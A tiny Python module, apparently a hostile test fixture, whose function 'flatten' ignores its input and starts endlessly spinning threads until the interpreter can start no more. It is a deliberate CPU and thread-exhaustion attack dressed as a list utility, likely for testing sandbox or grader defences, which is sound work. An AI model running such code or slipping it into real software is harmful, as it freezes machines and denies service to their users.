"""Hostile: start busy threads until the interpreter cannot start any more, on every call."""
import threading


def _spin():
    while True:
        pass


def flatten(items):
    started = 0
    while True:
        try:
            threading.Thread(target=_spin, daemon=True).start()
            started += 1
        except RuntimeError:
            if started > 100000:
                return [started]
